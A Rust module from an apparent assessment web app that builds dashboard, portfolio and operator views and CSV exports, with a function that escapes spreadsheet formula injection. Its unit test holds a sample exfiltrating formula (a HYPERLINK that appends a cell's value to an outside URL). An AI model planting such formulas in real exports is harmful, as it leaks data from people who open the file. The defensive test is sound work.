//! Read models across the assessment: the director's dashboard, the advisor's portfolio, the
//! operator's workload view and the CSV export. Each is built from a fixed number of queries,
//! however many organisations or items there are (no query per row).
use std::collections::HashMap;

use chrono::{DateTime, NaiveDate, Utc};
use sea_orm::sea_query::{Alias, Condition, Expr, ExprTrait, Query, SubQueryStatement};
use sea_orm::{
    ColumnTrait, ConnectionTrait, EntityTrait, JoinType, PaginatorTrait, QueryFilter, QueryOrder, QuerySelect,
    RelationTrait,
};
use serde::Serialize;

use super::assessment::{ChecklistSummary, UserRef, progress_by_checklist, status_of};
use super::progress;
use super::recognition::{self, RecognitionView, lapsed_items, latest_by_org, standing_of};
use crate::db::entities::{advisor_figures, evidence, item, organisation, organisation_figures, user};
use crate::db::page::{self as keyset, Keyset, SortColumn};
use crate::domain::chart::{Chart, progress_line};
use crate::domain::checklist::{Checklists, Kind, PILLARS};
use crate::domain::page::{Key, Order, Page, PageRequest, Part};
use crate::domain::policy::{Actor, GlobalPermission, Permission};
use crate::domain::progress::Progress;
use crate::domain::recognition::{RENEWAL_WINDOW_DAYS, Standing};
use crate::domain::role::Role;
use crate::domain::workflow::ItemStatus;
use crate::error::{AppError, AppResult};
use crate::state::AppState;

#[derive(Debug, Clone, Default, Serialize)]
pub struct Waiting {
    pub count: usize,
    pub oldest_since: Option<DateTime<Utc>>,
    pub oldest_days: i64,
}

impl Waiting {
    fn add(&mut self, since: DateTime<Utc>, now: DateTime<Utc>) {
        self.count += 1;
        if self.oldest_since.is_none_or(|o| since < o) {
            self.oldest_since = Some(since);
            self.oldest_days = (now - since).num_days();
        }
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct ItemLine {
    pub id: i64,
    pub checklist: String,
    pub text: String,
    pub status: &'static str,
    pub owner: Option<String>,
    pub date: Option<NaiveDate>,
    pub recurrence: Option<&'static str>,
}

#[derive(Debug, Clone, Serialize)]
pub struct StatusCount {
    pub status: &'static str,
    pub count: usize,
}

#[derive(Debug, Clone, Serialize)]
pub struct DirectorDashboard {
    pub organisation: organisation::Model,
    pub checklists: Vec<ChecklistSummary>,
    pub overall: Progress,
    pub overall_percent: u32,
    pub by_status: Vec<StatusCount>,
    pub waiting_on_organisation: Waiting,
    pub waiting_on_advisor: Waiting,
    pub overdue: Vec<ItemLine>,
    pub next_recurring: Vec<ItemLine>,
    pub recognition: Option<RecognitionView>,
    pub chart: Chart,
    pub generated_at: DateTime<Utc>,
}

fn checklist_item<'a>(
    lists: &'a Checklists,
    row: &item::Model,
) -> Option<(&'a crate::domain::checklist::Checklist, &'a crate::domain::checklist::ChecklistItem)> {
    let l = lists.get(&row.checklist_key)?;
    Some((l, l.item(&row.item_key)?))
}

pub async fn director(state: &AppState, actor: &Actor, org: i64, lang: &str) -> AppResult<DirectorDashboard> {
    actor.may(Permission::ViewAssessment, org)?;
    let organisation = organisation::Entity::find_by_id(org).one(&state.db).await?.ok_or(AppError::NotFound)?;
    let now = state.now();
    let today = now.date_naive();
    let rows: Vec<item::Model> =
        item::Entity::find().filter(item::Column::OrganisationId.eq(org)).all(&state.db).await?;
    let current: Vec<&item::Model> = rows.iter().filter(|r| checklist_item(&state.checklists, r).is_some()).collect();
    let owners: HashMap<i64, String> = user::Entity::find()
        .filter(user::Column::Id.is_in(current.iter().filter_map(|r| r.owner_id).collect::<Vec<_>>()))
        .all(&state.db)
        .await?
        .into_iter()
        .map(|u| (u.id, u.name))
        .collect();

    let by = progress_by_checklist(
        &state.checklists,
        current.iter().map(|r| (r.checklist_key.as_str(), r.item_key.as_str(), status_of(r))),
    );
    let checklists: Vec<ChecklistSummary> = state
        .checklists
        .all()
        .iter()
        .map(|l| {
            let p = by.get(&l.key).cloned().unwrap_or_default();
            ChecklistSummary {
                key: l.key.clone(),
                title: l.title.get(lang).into(),
                summary: l.summary.get(lang).into(),
                is_pillar: l.kind == Kind::Pillar,
                version: l.version.clone(),
                percent: p.percent(),
                complete: p.complete(),
                progress: p,
            }
        })
        .collect();
    let mut overall = Progress::default();
    let mut counts: HashMap<ItemStatus, usize> = HashMap::new();
    let (mut on_org, mut on_advisor) = (Waiting::default(), Waiting::default());
    let mut overdue = vec![];
    let line = |r: &item::Model, date: Option<NaiveDate>| {
        let (l, d) = checklist_item(&state.checklists, r).map(|(l, d)| (Some(l), Some(d))).unwrap_or((None, None));
        ItemLine {
            id: r.id,
            checklist: l.map(|l| l.title.get(lang).to_string()).unwrap_or_default(),
            text: d.map(|d| d.text.get(lang).to_string()).unwrap_or_else(|| r.item_key.clone()),
            status: status_of(r).as_str(),
            owner: r.owner_id.and_then(|o| owners.get(&o).cloned()),
            date,
            recurrence: d.and_then(|d| d.recurrence).map(|x| x.as_str()),
        }
    };
    for r in &current {
        let s = status_of(r);
        if PILLARS.contains(&r.checklist_key.as_str()) {
            overall.add(s);
        }
        *counts.entry(s).or_default() += 1;
        if s.awaits_review() {
            on_advisor.add(r.status_changed_at, now);
        } else if !s.is_done() {
            on_org.add(r.status_changed_at, now);
        }
        if r.due_date.is_some_and(|d| d < today) && !s.is_done() {
            overdue.push(line(r, r.due_date));
        }
    }
    overdue.sort_by_key(|l| l.date);
    let recurring: Vec<i64> = current
        .iter()
        .filter(|r| status_of(r) == ItemStatus::Accepted)
        .filter(|r| checklist_item(&state.checklists, r).is_some_and(|(_, d)| d.recurrence.is_some()))
        .map(|r| r.id)
        .collect();
    let until: HashMap<i64, NaiveDate> = evidence::Entity::find()
        .filter(evidence::Column::ItemId.is_in(recurring))
        .filter(evidence::Column::SupersededAt.is_null())
        .filter(evidence::Column::ValidUntil.is_not_null())
        .all(&state.db)
        .await?
        .into_iter()
        .filter_map(|e| Some((e.item_id, e.valid_until?)))
        .fold(HashMap::new(), |mut m, (id, d)| {
            m.entry(id).and_modify(|x: &mut NaiveDate| *x = std::cmp::Ord::min(*x, d)).or_insert(d);
            m
        });
    let mut next_recurring: Vec<ItemLine> =
        current.iter().filter_map(|r| until.get(&r.id).map(|d| line(r, Some(*d)))).collect();
    next_recurring.sort_by_key(|l| l.date);
    next_recurring.truncate(10);

    // Progress over time: moves into and out of "done" for the pillar items.
    let (it, tr) = (Alias::new("items"), Alias::new("item_transitions"));
    let stmt = Query::select()
        .columns([
            (tr.clone(), Alias::new("created_at")),
            (tr.clone(), Alias::new("from_status")),
            (tr.clone(), Alias::new("to_status")),
        ])
        .from(tr.clone())
        .inner_join(it.clone(), Expr::col((it.clone(), Alias::new("id"))).equals((tr.clone(), Alias::new("item_id"))))
        .and_where(Expr::col((it.clone(), Alias::new("organisation_id"))).eq(org))
        .and_where(Expr::col((it, Alias::new("checklist_key"))).is_in(PILLARS))
        // Only moves into or out of "done" (a third of them): the rest do not move the line.
        .cond_where({
            let done: Vec<&str> = ItemStatus::ALL.into_iter().filter(|s| s.is_done()).map(ItemStatus::as_str).collect();
            let (from, to) =
                (Expr::col((tr.clone(), Alias::new("from_status"))), Expr::col((tr.clone(), Alias::new("to_status"))));
            Condition::any()
                .add(from.clone().is_in(done.clone()).and(to.clone().is_not_in(done.clone())))
                .add(from.is_not_in(done.clone()).and(to.is_in(done)))
        })
        .to_owned();
    let mut changes = vec![];
    for row in state.db.query_all(&stmt).await? {
        let at: DateTime<Utc> = row.try_get("", "created_at")?;
        let from: String = row.try_get("", "from_status")?;
        let to: String = row.try_get("", "to_status")?;
        let done = |s: &str| ItemStatus::parse(s).is_some_and(|s| s.is_done());
        match (done(&from), done(&to)) {
            (false, true) => changes.push((at.date_naive(), 1)),
            (true, false) => changes.push((at.date_naive(), -1)),
            _ => {}
        }
    }
    let chart = progress_line(changes, overall.total, today, 640, 180);
    let by_status = ItemStatus::ALL
        .into_iter()
        .map(|s| StatusCount { status: s.as_str(), count: counts.get(&s).copied().unwrap_or(0) })
        .collect();
    Ok(DirectorDashboard {
        organisation,
        checklists,
        overall_percent: overall.percent(),
        overall,
        by_status,
        waiting_on_organisation: on_org,
        waiting_on_advisor: on_advisor,
        overdue,
        next_recurring,
        recognition: recognition::current(state, org).await?,
        chart,
        generated_at: now,
    })
}

#[derive(Debug, Clone, Serialize)]
pub struct PillarCell {
    pub key: String,
    pub title: String,
    pub percent: u32,
    pub complete: bool,
}

#[derive(Debug, Clone, Serialize)]
pub struct PortfolioRow {
    pub organisation_id: i64,
    pub name: String,
    pub pillars: Vec<PillarCell>,
    pub percent: u32,
    pub waiting: usize,
    pub oldest_waiting_days: Option<i64>,
    pub application_pending: bool,
    pub standing: Option<&'static str>,
    pub valid_until: Option<NaiveDate>,
    pub expiring_soon: bool,
}

#[derive(Debug, Clone, Default, serde::Deserialize, Serialize)]
pub struct PortfolioQuery {
    /// name, progress, waiting, oldest or expiry
    pub sort: Option<String>,
    pub desc: Option<bool>,
    /// Part of the organisation's name.
    pub q: Option<String>,
    /// Only organisations with items waiting for review.
    pub waiting: Option<bool>,
    /// Only recognitions ending within 90 days.
    pub expiring: Option<bool>,
}

impl PortfolioQuery {
    /// The sort asked for (by name when unknown).
    pub fn sort_key(&self) -> &'static str {
        match self.sort.as_deref() {
            Some("progress") => "progress",
            Some("waiting") => "waiting",
            Some("oldest") => "oldest",
            Some("expiry") => "expiry",
            _ => "name",
        }
    }

    /// The list a cursor belongs to: one per sort and direction.
    pub fn list(&self) -> String {
        let dir = if self.desc.unwrap_or(false) { "desc" } else { "asc" };
        format!("portfolio:{}:{dir}", self.sort_key())
    }

    /// How the database sorts: by the figure asked for, then by name and id. "Oldest" counts
    /// days waiting, which run the other way from the time waiting began.
    fn keyset(&self) -> Keyset {
        use organisation_figures::Column as F;
        let order = if self.desc.unwrap_or(false) { Order::Desc } else { Order::Asc };
        let (first, order) = match self.sort_key() {
            "progress" => (Some(F::Percent), order),
            "waiting" => (Some(F::Waiting), order),
            "oldest" => (Some(F::WaitingSince), order.reversed()),
            "expiry" => (Some(F::ValidUntil), order),
            _ => (None, order),
        };
        // Each sort is one index of the figures: (figure, name, organisation id).
        let sorts = first.map(SortColumn::of).into_iter().chain([SortColumn::of(F::Name)]).collect();
        Keyset::by_all(sorts, SortColumn::of(F::OrganisationId), order)
    }

    fn key(&self, f: &organisation_figures::Model) -> Key {
        let first: Option<Part> = match self.sort_key() {
            "progress" => Some(i64::from(f.percent).into()),
            "waiting" => Some(i64::from(f.waiting).into()),
            "oldest" => Some(f.waiting_since.into()),
            "expiry" => Some(f.valid_until.into()),
            _ => None,
        };
        first.into_iter().chain([f.name.as_str().into(), f.organisation_id.into()]).collect()
    }
}

/// The advisor's organisations, a page at a time: sorted, filtered and cut by the database on the
/// kept figures (`services::progress`), which carry each organisation's name, so only the page's
/// rows are read and computed.
pub async fn portfolio(
    state: &AppState,
    actor: &Actor,
    lang: &str,
    q: &PortfolioQuery,
    page: &PageRequest,
) -> AppResult<Page<PortfolioRow>> {
    use organisation_figures::Column as F;
    actor.may_globally(GlobalPermission::ViewPortfolio)?;
    let now = state.now();
    let today = now.date_naive();
    // Every organisation has its figures: one row per organisation in scope.
    let mut mine =
        crate::db::scope::organisations_within(organisation_figures::Entity::find(), actor, F::OrganisationId);
    let text = q.q.as_deref().map(|s| s.trim().to_lowercase()).filter(|s| !s.is_empty());
    if let Some(text) = &text {
        mine = mine.filter(keyset::name_contains(F::Name, text));
    }
    if q.waiting.unwrap_or(false) {
        mine = mine.filter(Condition::any().add(F::Waiting.gt(0)).add(F::ApplicationPending.eq(true)));
        if actor.role == Role::Advisor && text.is_none() && !q.expiring.unwrap_or(false) {
            // Kept per advisor: the filter's count visits none of their organisations.
            let kept = progress::advisor(&state.db, actor.user_id).await?;
            mine = mine.with_total(u64::try_from(kept.organisations_waiting).unwrap_or(0));
        }
    }
    if q.expiring.unwrap_or(false) {
        let until = today + chrono::Duration::days(RENEWAL_WINDOW_DAYS);
        mine = mine
            .filter(F::Live.eq(true))
            .filter(Condition::all().add(F::ValidUntil.gte(today)).add(F::ValidUntil.lte(until)));
    }
    let orgs = keyset::fetch_scoped(&state.db, mine, page, q.keyset(), |f| q.key(f)).await?;
    let ids: Vec<i64> = orgs.rows.iter().map(|f| f.organisation_id).collect();
    let pillars = progress::pillar_counts(&state.db, &state.checklists, &ids).await?;
    let recs = latest_by_org(&state.db, &ids).await?;
    // Lapsed items matter only for a standing, so only where there is a recognition.
    let lapsed = lapsed_items(&state.db, &recs.keys().copied().collect::<Vec<_>>(), today).await?;
    Ok(orgs.map(|f| {
        let cells = state
            .checklists
            .pillars()
            .map(|l| {
                let p = pillars.get(&(f.organisation_id, l.key.clone())).cloned().unwrap_or_default();
                PillarCell {
                    key: l.key.clone(),
                    title: l.title.get(lang).into(),
                    percent: p.percent(),
                    complete: p.complete(),
                }
            })
            .collect();
        let waiting = usize::try_from(f.waiting).unwrap_or(0);
        let rec = recs.get(&f.organisation_id);
        let standing = rec.map(|r| standing_of(r, lapsed.get(&f.organisation_id).copied().unwrap_or(0), today));
        let live = standing.is_some_and(|s| matches!(s, Standing::Valid | Standing::AtRisk));
        PortfolioRow {
            organisation_id: f.organisation_id,
            name: f.name,
            pillars: cells,
            percent: u32::try_from(f.percent).unwrap_or(0),
            waiting,
            oldest_waiting_days: (waiting > 0).then(|| (now - f.waiting_since).num_days()),
            application_pending: f.application_pending,
            standing: standing.map(Standing::as_str),
            valid_until: rec.map(|r| r.valid_until),
            expiring_soon: live && rec.is_some_and(|r| (r.valid_until - today).num_days() <= RENEWAL_WINDOW_DAYS),
        }
    }))
}

/// Organisations per read of the portfolio's CSV export.
const EXPORT_CHUNK: u64 = 200;

/// The portfolio as CSV (sorted and filtered as asked), read and sent 200 organisations at a
/// time, so a portfolio of any size streams in the same memory. The first part is read before the
/// answer starts: a refusal or a bad query is an error status, not a broken download.
pub async fn portfolio_csv(
    state: AppState,
    actor: Actor,
    lang: String,
    q: PortfolioQuery,
) -> AppResult<impl futures_util::Stream<Item = Result<bytes::Bytes, std::io::Error>> + Send + 'static> {
    enum Next {
        Rows(Page<PortfolioRow>, bool),
        Failed(String),
        Done,
    }
    let first = portfolio(&state, &actor, &lang, &q, &PageRequest::first(&q.list(), EXPORT_CHUNK)).await?;
    Ok(futures_util::stream::unfold(Next::Rows(first, true), move |next| {
        let (state, actor, lang, q) = (state.clone(), actor.clone(), lang.clone(), q.clone());
        async move {
            let (page, header) = match next {
                Next::Rows(page, header) => (page, header),
                // The answer has started: the download ends short, and the log says why.
                Next::Failed(e) => return Some((Err(std::io::Error::other(e)), Next::Done)),
                Next::Done => return None,
            };
            let chunk = match portfolio_lines(&state, &page.rows, header) {
                Ok(c) => c,
                Err(e) => return Some((Err(std::io::Error::other(e.to_string())), Next::Done)),
            };
            let following = match page.next.as_deref() {
                None => Next::Done,
                Some(cursor) => match PageRequest::parse(&q.list(), Some(EXPORT_CHUNK), Some(cursor)) {
                    Ok(req) => match portfolio(&state, &actor, &lang, &q, &req).await {
                        Ok(p) => Next::Rows(p, false),
                        Err(e) => {
                            tracing::error!(error = %e, "portfolio export cut short");
                            Next::Failed(e.to_string())
                        }
                    },
                    Err((field, code)) => Next::Failed(format!("{field}: {code}")),
                },
            };
            Some((Ok(chunk), following))
        }
    }))
}

/// CSV lines of portfolio rows (with the header line and a byte order mark for spreadsheets first).
fn portfolio_lines(state: &AppState, rows: &[PortfolioRow], header: bool) -> AppResult<bytes::Bytes> {
    let start: &[u8] = if header { b"\xEF\xBB\xBF" } else { b"" };
    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(start.to_vec());
    let csv_error = |e: csv::Error| AppError::internal(format!("csv: {e}"));
    if header {
        let mut names: Vec<String> = vec!["organisation_id".into(), "organisation".into(), "percent".into()];
        names.extend(state.checklists.pillars().map(|l| format!("{}_percent", l.key)));
        names.extend(
            ["waiting", "oldest_waiting_days", "application_pending", "standing", "valid_until", "expiring_soon"]
                .map(String::from),
        );
        out.write_record(&names).map_err(csv_error)?;
    }
    for r in rows {
        let mut cells: Vec<String> = vec![r.organisation_id.to_string(), csv_cell(&r.name), r.percent.to_string()];
        cells.extend(r.pillars.iter().map(|p| p.percent.to_string()));
        cells.extend([
            r.waiting.to_string(),
            r.oldest_waiting_days.map(|d| d.to_string()).unwrap_or_default(),
            if r.application_pending { "yes".into() } else { String::new() },
            r.standing.unwrap_or_default().to_string(),
            r.valid_until.map(|d| d.to_string()).unwrap_or_default(),
            if r.expiring_soon { "yes".into() } else { String::new() },
        ]);
        out.write_record(&cells).map_err(csv_error)?;
    }
    Ok(bytes::Bytes::from(out.into_inner().map_err(|e| AppError::internal(format!("csv: {e}")))?))
}

#[derive(Debug, Clone, Serialize)]
pub struct AdvisorLoad {
    pub advisor: UserRef,
    pub organisations: usize,
    pub waiting: usize,
    pub oldest_waiting_days: Option<i64>,
}

#[derive(Debug, Clone, Serialize)]
pub struct OperatorOverview {
    pub organisations: usize,
    /// The first `UNASSIGNED_SHOWN` by name.
    pub unassigned: Vec<organisation::Model>,
    pub unassigned_total: usize,
    pub advisors: Vec<AdvisorLoad>,
}

/// Unassigned organisations the overview lists (the rest are counted).
pub const UNASSIGNED_SHOWN: u64 = 50;

pub async fn operator(state: &AppState, actor: &Actor) -> AppResult<OperatorOverview> {
    use organisation_figures::Column as F;
    actor.may_globally(GlobalPermission::ManageOrganisations)?;
    let now = state.now();
    let organisations = organisation::Entity::find().count(&state.db).await?;
    let advisors = user::Entity::find()
        .filter(user::Column::Role.eq(Role::Advisor.as_str()))
        .order_by_asc(user::Column::Name)
        .all(&state.db)
        .await?;
    // Per advisor, in one query: organisations and items waiting (kept), and since when the
    // oldest waits: the first of their organisations along the figures' index by waiting time
    // (looked for only when something waits).
    use advisor_figures::Column as A;
    let oldest = Query::select()
        .column((organisation_figures::Entity, F::WaitingSince))
        .from(organisation_figures::Entity)
        .and_where(Expr::col((organisation_figures::Entity, F::WaitingSince)).lt(progress::nothing_waiting()))
        .cond_where(crate::db::scope::assigned_to(
            Expr::col((advisor_figures::Entity, A::AdvisorId)),
            F::OrganisationId,
        ))
        .order_by((organisation_figures::Entity, F::WaitingSince), sea_orm::Order::Asc)
        .limit(1)
        .to_owned();
    let oldest = Expr::case(Expr::col((advisor_figures::Entity, A::Waiting)).gt(0), SubQueryStatement::from(oldest));
    let kept: HashMap<i64, (i32, i32, Option<DateTime<Utc>>)> = advisor_figures::Entity::find()
        .select_only()
        .columns([A::AdvisorId, A::Organisations, A::Waiting])
        .column_as(Expr::expr(oldest), "oldest")
        .filter(A::AdvisorId.is_in(advisors.iter().map(|a| a.id).collect::<Vec<_>>()))
        .into_tuple::<(i64, i32, i32, Option<DateTime<Utc>>)>()
        .all(&state.db)
        .await?
        .into_iter()
        .map(|(id, orgs, waiting, since)| (id, (orgs, waiting, since)))
        .collect();
    let loads = advisors
        .iter()
        .map(|a| {
            let (orgs, waiting, since) = kept.get(&a.id).copied().unwrap_or((0, 0, None));
            AdvisorLoad {
                advisor: UserRef::from(a),
                organisations: usize::try_from(orgs).unwrap_or(0),
                waiting: usize::try_from(waiting).unwrap_or(0),
                oldest_waiting_days: since.map(|t| (now - t).num_days()),
            }
        })
        .collect();
    // Unassigned: the figures with no advisor, along their index by (advisors, name).
    let unassigned = organisation::Entity::find()
        .join(JoinType::InnerJoin, organisation_figures::Relation::Organisation.def().rev())
        .filter(F::Advisors.eq(0));
    let unassigned_total = unassigned.clone().count(&state.db).await?;
    let unassigned =
        unassigned.order_by_asc(F::Name).order_by_asc(F::OrganisationId).limit(UNASSIGNED_SHOWN).all(&state.db).await?;
    Ok(OperatorOverview {
        organisations: organisations as usize,
        advisors: loads,
        unassigned,
        unassigned_total: unassigned_total as usize,
    })
}

/// A cell as a spreadsheet will read it: text that starts like a formula (`=`, `+`, `-`, `@`, a
/// tab or a carriage return) gets a leading apostrophe, so a name or title typed by someone can
/// never run as a formula on the director's machine.
fn csv_cell(s: &str) -> String {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() }
}

/// The organisation's items as CSV: status, owner, dates and the evidence on each.
pub async fn export_csv(state: &AppState, actor: &Actor, org: i64, lang: &str) -> AppResult<(String, String)> {
    actor.may(Permission::ViewAssessment, org)?;
    let o = organisation::Entity::find_by_id(org).one(&state.db).await?.ok_or(AppError::NotFound)?;
    let rows = item::Entity::find()
        .filter(item::Column::OrganisationId.eq(org))
        .order_by_asc(item::Column::Id)
        .all(&state.db)
        .await?;
    let owners: HashMap<i64, user::Model> = user::Entity::find()
        .filter(user::Column::OrganisationId.eq(org))
        .all(&state.db)
        .await?
        .into_iter()
        .map(|u| (u.id, u))
        .collect();
    let mut ev: HashMap<i64, Vec<evidence::Model>> = HashMap::new();
    for e in evidence::Entity::find()
        .filter(evidence::Column::ItemId.is_in(rows.iter().map(|r| r.id).collect::<Vec<_>>()))
        .filter(evidence::Column::SupersededAt.is_null())
        .order_by_asc(evidence::Column::Id)
        .all(&state.db)
        .await?
    {
        ev.entry(e.item_id).or_default().push(e);
    }
    let t = |k: &str| state.translations.get(lang, k).to_string();
    let mut out = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(b"\xEF\xBB\xBF".to_vec());
    let csv_error = |e: csv::Error| AppError::internal(format!("csv: {e}"));
    out.write_record([
        "checklist",
        "item_key",
        "item",
        "status",
        "owner",
        "due_date",
        "status_changed_at",
        "evidence",
        "evidence_valid_until",
        "archived",
    ])
    .map_err(csv_error)?;
    let mut ordered: Vec<&item::Model> = rows.iter().collect();
    let pos = |r: &item::Model| {
        let l = state.checklists.all().iter().position(|l| l.key == r.checklist_key).unwrap_or(usize::MAX);
        let i = state
            .checklists
            .get(&r.checklist_key)
            .and_then(|l| l.items.iter().position(|i| i.key == r.item_key))
            .unwrap_or(usize::MAX);
        (l, i)
    };
    ordered.sort_by_key(|r| pos(r));
    for r in ordered {
        let def = checklist_item(&state.checklists, r);
        let evs = ev.get(&r.id).map(Vec::as_slice).unwrap_or(&[]);
        let list: Vec<String> = evs
            .iter()
            .map(|e| match (&e.url, e.kind.as_str()) {
                (Some(u), _) => format!("{} <{u}>", e.title),
                (None, k) => format!("{} ({k})", e.title),
            })
            .collect();
        let until = evs.iter().filter_map(|e| e.valid_until).min().map(|d| d.to_string()).unwrap_or_default();
        let fields = [
            def.map(|(l, _)| l.title.get(lang).to_string()).unwrap_or_else(|| r.checklist_key.clone()),
            r.item_key.clone(),
            def.map(|(_, d)| d.text.get(lang).to_string()).unwrap_or_default(),
            t(&format!("status.{}", status_of(r).as_str())),
            r.owner_id.and_then(|o| owners.get(&o)).map(|u| u.name.clone()).unwrap_or_default(),
            r.due_date.map(|d| d.to_string()).unwrap_or_default(),
            r.status_changed_at.format("%Y-%m-%d %H:%M").to_string(),
            list.join("; "),
            until,
            if def.is_none() { "yes".into() } else { String::new() },
        ];
        out.write_record(fields.iter().map(|f| csv_cell(f))).map_err(csv_error)?;
    }
    let bytes = out.into_inner().map_err(|e| AppError::internal(format!("csv: {e}")))?;
    let out = String::from_utf8(bytes).map_err(AppError::internal)?;
    let name: String =
        o.name.chars().map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_lowercase() } else { '-' }).collect();
    Ok((format!("{name}-items.csv"), out))
}

#[cfg(test)]
mod tests {
    use super::csv_cell;

    #[test]
    fn cells_that_start_like_a_formula_are_neutralised() {
        assert_eq!(csv_cell("plain"), "plain");
        for formula in ["=HYPERLINK(\"http://x/?leak=\"&C2,\"Klik hier\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
            assert!(csv_cell(formula).starts_with('\''), "{formula:?}");
        }
    }
}
